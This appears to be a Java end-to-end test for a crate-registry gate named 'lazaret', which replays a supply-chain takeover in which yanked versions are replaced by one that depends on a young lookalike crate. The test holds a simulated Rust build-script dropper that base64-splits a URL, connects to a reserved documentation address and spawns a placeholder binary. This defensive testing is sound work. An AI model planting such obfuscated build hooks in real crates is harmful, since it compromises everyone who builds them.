package lazaret.e2e;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.Instant;
import java.util.List;
import lazaret.e2e.harness.Cargo;
import lazaret.e2e.harness.CargoProjectFolder;
import lazaret.e2e.harness.CliProcess;
import lazaret.e2e.harness.Crates;
import lazaret.e2e.harness.GateScene;
import lazaret.e2e.harness.ProgramResult;
import lazaret.testkit.CrateBuilder;
import lazaret.testkit.Dependency;
import lazaret.testkit.FixtureRegistry;
import org.junit.jupiter.api.Test;

/// The attack on arrayref of 2026-08-20, replayed with real cargo. Good versions are yanked, a new
/// one depends on a crate of four minutes, and that crate drops a program when it is built. The
/// crates are invented. The dropper names only reserved addresses and is never run.
class TakeoverE2E {
  private static final Instant PUBLISHED = Instant.parse("2026-08-20T07:15:00Z");
  private static final Instant NOTICED = Instant.parse("2026-08-20T07:19:00Z");
  private static final List<String> GOOD = List.of("0.3.5", "0.3.6", "0.3.7", "0.3.8", "0.3.9");

  /// In pieces, as in the attack: "https://192.0.2.7/x" in base64. The address is reserved for
  /// documentation (RFC 5737) and has no host.
  private static final String DROPPER =
      """
      use std::net::TcpStream;
      use std::process::Command;
      const PARTS: [&str; 3] = ["aHR0cHM6Ly8", "xOTIuMC4yLjc", "veA=="];
      fn main() {
          let encoded: String = PARTS.concat();
          if std::env::var("NEVER_SET_BY_ANYBODY").as_deref() == Ok(encoded.as_str()) {
              let _ = TcpStream::connect("192.0.2.7:443");
              let _ = Command::new("/nonexistent/dropped").spawn();
          }
      }
      """;

  private static final CrateBuilder CARRIER = good("0.3.10").dependency("proc-macro1", "^1");
  private static final CrateBuilder PAYLOAD =
      CrateBuilder.crate("proc-macro1", "1.0.0").buildScript(DROPPER);

  private static CrateBuilder good(String version) {
    return CrateBuilder.crate("arrayref", version).file("src/lib.rs", "pub fn touch() {}\n");
  }

  private static FixtureRegistry before() {
    FixtureRegistry registry = Crates.aged(CrateBuilder.crate("proc-macro2", "1.0.0"));
    GOOD.forEach(version -> Crates.addAged(registry, good(version)));
    return registry;
  }

  private static void yank(FixtureRegistry registry, boolean on) {
    GOOD.forEach(
        version ->
            registry.publish(good(version), line -> line.yanked(on).pubtime(Crates.LONG_AGO)));
  }

  private static void attack(FixtureRegistry registry) {
    registry.publish(PAYLOAD, line -> line.pubtime(PUBLISHED.minusSeconds(240)));
    registry.publish(CARRIER, line -> line.pubtime(PUBLISHED));
    yank(registry, true);
  }

  @Test
  void cargoKeepsBuildingWithTheGoodVersionAndTheDeskShowsWhy() {
    FixtureRegistry registry = before();
    try (GateScene scene = GateScene.of(registry, s -> s.impatient().clock(NOTICED))) {
      CargoProjectFolder project =
          CargoProjectFolder.with("arrayref = \"0.3\"", "proc-macro2 = \"1\"");
      Cargo.fresh(scene.gate()).run(project.folder(), "build").ok();
      assertThat(project.locked("arrayref")).isEqualTo("0.3.9");

      attack(registry);

      oldLockBuilds(scene, project);
      updatesStay(scene, project);
      aForeignLockIsRefused(scene);
      theDeskShowsWhy(scene);
      theUnyankIsFollowed(scene, registry, project);
    }
  }

  private static void oldLockBuilds(GateScene scene, CargoProjectFolder project) {
    Cargo.fresh(scene.gate()).run(project.folder(), "build", "--locked").ok();
  }

  private static void updatesStay(GateScene scene, CargoProjectFolder project) {
    ProgramResult update = Cargo.fresh(scene.gate()).run(project.folder(), "update").ok();
    assertThat(update.err()).doesNotContain("0.3.10").doesNotContain("proc-macro1");
    assertThat(project.locked("arrayref")).isEqualTo("0.3.9");

    CargoProjectFolder fresh = CargoProjectFolder.with("arrayref = \"0.3\"");
    Cargo.fresh(scene.gate()).run(fresh.folder(), "build").ok();
    assertThat(fresh.locked("arrayref")).isEqualTo("0.3.9");

    ProgramResult asked =
        Cargo.fresh(scene.gate())
            .run(CargoProjectFolder.with("arrayref = \"=0.3.10\"").folder(), "build")
            .exits(101);
    assertThat(asked.err()).contains("version 0.3.10 is yanked");
  }

  /// Checks the refusal of a lockfile that was updated without the gate.
  private static void aForeignLockIsRefused(GateScene scene) {
    CargoProjectFolder project = CargoProjectFolder.with("arrayref = \"0.3\"");
    project.lock(
        """
        version = 3

        [[package]]
        name = "app"
        version = "0.1.0"
        dependencies = ["arrayref"]

        [[package]]
        name = "arrayref"
        version = "0.3.10"
        source = "registry+https://github.com/rust-lang/crates.io-index"
        checksum = "%s"
        dependencies = ["proc-macro1"]

        [[package]]
        name = "proc-macro1"
        version = "1.0.0"
        source = "registry+https://github.com/rust-lang/crates.io-index"
        checksum = "%s"
        """
            .formatted(CARRIER.id().cksum(), PAYLOAD.id().cksum()));

    ProgramResult build =
        Cargo.fresh(scene.gate()).run(project.folder(), "build", "--locked").exits(101);

    assertThat(build.err()).contains("got 403").contains("BLOCKED ");
    assertThat(scene.http().artifact(CARRIER.id()).text())
        .startsWith(
            "BLOCKED arrayref 0.3.10: yank-wave: published while good versions were being yanked")
        .contains("Use: arrayref 0.3.9: cargo update");
    assertThat(scene.http().artifact(PAYLOAD.id()).status()).isEqualTo(403);
  }

  private static void theDeskShowsWhy(GateScene scene) {
    CliProcess cli = CliProcess.beside(scene.gate());

    ProgramResult why = cli.run("why", "arrayref@0.3.10").exits(1);
    assertThat(why.out())
        .contains("withheld (review)")
        .contains("yank-wave: published while good versions were being yanked")
        .contains(
            "new-dependency-young: newly depends on 'proc-macro1', unlike 0.3.9, a crate first"
                + " published 4 minutes before it")
        .contains("new-dependency-lookalike: ")
        .contains("whose name resembles 'proc-macro2' (one character)")
        .contains("new-dependency-unserved: ")
        .contains("cooldown: younger than ")
        .contains("cargo update, which takes 0.3.9");
    assertThat(cli.run("why", "proc-macro1@1.0.0").exits(1).out())
        .contains("name-lookalike: the name resembles 'proc-macro2' (one character)")
        .contains("young-crate: ");
    assertThat(cli.run("queue").ok().out()).contains("arrayref").contains("0.3.10");
    assertThat(cli.run("log").ok().out())
        .containsPattern("yanked-upstream\\s.*arrayref.*0\\.3\\.9");
    assertThat(cli.run("closure", "arrayref@0.3.10").exits(1).out())
        .contains("arrayref@0.3.10 is withheld itself: yank-wave")
        .contains("proc-macro1 ^1");
  }

  private static void theUnyankIsFollowed(
      GateScene scene, FixtureRegistry registry, CargoProjectFolder project) {
    yank(registry, false);
    registry.removeLine("arrayref", "0.3.10");
    registry.removeLine("proc-macro1", "1.0.0");

    Cargo.fresh(scene.gate()).run(project.folder(), "update").ok();
    Cargo.fresh(scene.gate()).run(project.folder(), "build", "--locked").ok();

    assertThat(project.locked("arrayref")).isEqualTo("0.3.9");
    String index = scene.http().index("arrayref").text();
    assertThat(index.lines().filter(l -> l.contains("\"yanked\":false"))).hasSize(5);
    assertThat(CliProcess.beside(scene.gate()).run("log").ok().out())
        .contains("unyanked-upstream")
        .contains("removal-unconfirmed");
  }

  @Test
  void theRunningGateProvesThatItBlocks() {
    try (GateScene scene = GateScene.of(Crates.aged(CrateBuilder.crate("alpha", "1.0.0")))) {
      CliProcess cli = CliProcess.beside(scene.gate());

      ProgramResult passed = cli.run("selftest").ok();

      assertThat(passed.out())
          .contains("the index offers no version of 'lazaret-proof-of-life'")
          .contains("BLOCKED lazaret-proof-of-life 1.0.0: malware: ")
          .contains("blocks malware");
      assertThat(cli.run("queue").ok().out()).contains("nothing waits");
      ProgramResult build =
          Cargo.fresh(scene.gate())
              .run(CargoProjectFolder.with("lazaret-proof-of-life = \"1\"").folder(), "build")
              .exits(101);
      assertThat(build.err()).contains("version 1.0.0 is yanked");
      assertThat(scene.upstream().requests()).noneMatch(r -> r.target().contains("proof-of-life"));
      assertThat(cli.run("why", "lazaret-proof-of-life@1.0.0").exits(1).out()).contains("(deny)");
    }
  }

  @Test
  void whatIsNotServedIsApprovedWithEverythingItRequires() {
    FixtureRegistry registry = Crates.aged(CrateBuilder.crate("base", "1.0.0"));
    registry.publish(
        CrateBuilder.crate("base", "2.0.0"), line -> line.pubtime(NOTICED.minusSeconds(86_400)));
    Crates.addAged(
        registry, CrateBuilder.crate("top", "1.0.0").dependency(Dependency.on("base", "^2")));
    try (GateScene scene = GateScene.of(registry, s -> s.clock(NOTICED))) {
      CargoProjectFolder project = CargoProjectFolder.with("top = \"1\"");
      Cargo.fresh(scene.gate()).run(project.folder(), "build").exits(101);
      CliProcess cli = CliProcess.beside(scene.gate());

      assertThat(cli.run("closure", "top").exits(1).out())
          .contains("top@1.0.0", "base ^2", "2.0.0 cooldown: ")
          .contains("--approve would decide on base@2.0.0");
      cli.run("closure", "top", "--approve", "--reason", "read it").ok();

      Cargo.fresh(scene.gate()).run(project.folder(), "build").ok();
      assertThat(cli.run("closure", "--all").ok().out()).contains("all met");
    }
  }
}
